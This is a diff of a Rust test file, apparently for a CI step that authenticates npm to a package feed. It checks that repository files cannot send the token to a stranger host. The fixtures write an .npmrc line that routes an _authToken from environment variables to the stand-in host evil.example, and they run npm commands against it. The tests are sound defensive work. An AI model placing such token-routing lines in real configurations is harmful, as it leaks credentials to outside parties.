@@ -53,20 +53,28 @@ fn write_project(job: &Job<'_>) {
     );
 }
 
+/// By which npm asks the stranger.
+const INSTALL: &str = "install --no-fund --no-audit";
+const VIEW: &str = "view @e/left-behind";
+const PING: &str = "ping --registry=https://evil.example/npm/";
+
 /// Runs the step and npm, wherever its files lead; gives whether the feed's package came.
-fn run_and_install(emulator: &Emulator, job: &mut Job<'_>, step: &TaskStep, folder: &str, what: &str) -> bool {
+fn run_and_ask(
+    emulator: &Emulator,
+    job: &mut Job<'_>,
+    step: &TaskStep,
+    (folder, commands): (&str, &[&str]),
+    what: &str,
+) -> bool {
     let outcome = job.run_task(step).unwrap();
     assert_no_secret_shown(emulator, &outcome);
     emulator.clear_requests();
     let place = job.sources().join(folder);
-    for command in [
-        "install --no-fund --no-audit --fetch-retries=0",
-        "view @e/left-behind --fetch-retries=0",
-        "ping --registry=https://evil.example/npm/ --fetch-retries=0",
-    ] {
-        job.run_script(&format!("npm {command} --loglevel=error"), &place).unwrap();
+    for command in commands {
+        let before = emulator.requests_to(EVIL).len();
+        job.run_script(&format!("npm {command} --fetch-retries=0 --loglevel=error"), &place).unwrap();
+        assert!(emulator.requests_to(EVIL).len() > before, "{what}: the stranger was asked by {command}");
     }
-    assert!(!emulator.requests_to(EVIL).is_empty(), "{what}: the stranger was asked");
     assert!(!emulator.secret_was_sent_to(EVIL), "{what}: {:?}", emulator.requests_to(EVIL));
     assert_eq!(outcome.result == StepResult::Succeeded, outcome.errors.is_empty(), "{what}");
     installed(&place, "hello-contoso")
@@ -119,7 +127,13 @@ fn no_file_of_the_repository_sends_the_token_to_a_stranger() {
         if !tools.is_empty() {
             step = step.input("tools", tools);
         }
-        run_and_install(&emulator, &mut job, &step, folder, what);
+        // All send what a file has for the stranger alike.
+        let commands: &[&str] = match *folder {
+            "" if what.starts_with("plain") => &[INSTALL, VIEW, PING],
+            "" => &[INSTALL],
+            _ => &[VIEW],
+        };
+        run_and_ask(&emulator, &mut job, &step, (folder, commands), what);
     });
 }
 
@@ -144,7 +158,8 @@ fn neither_size_nor_links_hide_a_file() {
             link("vendor/app", job.sources().join("web")).unwrap();
             "web"
         };
-        run_and_install(&emulator, &mut job, &step(), folder, what);
+        let command = if folder.is_empty() { INSTALL } else { VIEW };
+        run_and_ask(&emulator, &mut job, &step(), (folder, &[command]), what);
     }
 }
 
@@ -163,7 +178,7 @@ fn the_variables_of_extra_header_are_guarded_in_the_files_of_every_tool() {
             let before = crate::support::read(job.sources().join(".npmrc"));
             write(&job, ".npmrc", format!("{before}//{EVIL}/:_authToken=${{GIT_CONFIG_VALUE_{number}}}\n"));
             let step = step().input("gitCredential", "extraHeader").input("tools", tools);
-            run_and_install(&emulator, &mut job, &step, "", &format!("{tools} {number}"));
+            run_and_ask(&emulator, &mut job, &step, ("", &[INSTALL]), &format!("{tools} {number}"));
         }
         let emulator = with_challenge();
         let mut job = job(&emulator);
@@ -199,7 +214,7 @@ fn a_strangers_registry_beside_the_feed_hinders_nothing() {
     let emulator = with_challenge();
     let mut job = job(&emulator);
     write_project(&job);
-    assert!(run_and_install(&emulator, &mut job, &step(), "", "innocent"));
+    assert!(run_and_ask(&emulator, &mut job, &step(), ("", &[INSTALL, VIEW, PING]), "innocent"));
     assert!(!with_token(&emulator.requests_to("pkgs.dev.azure.com")).is_empty());
 }
 
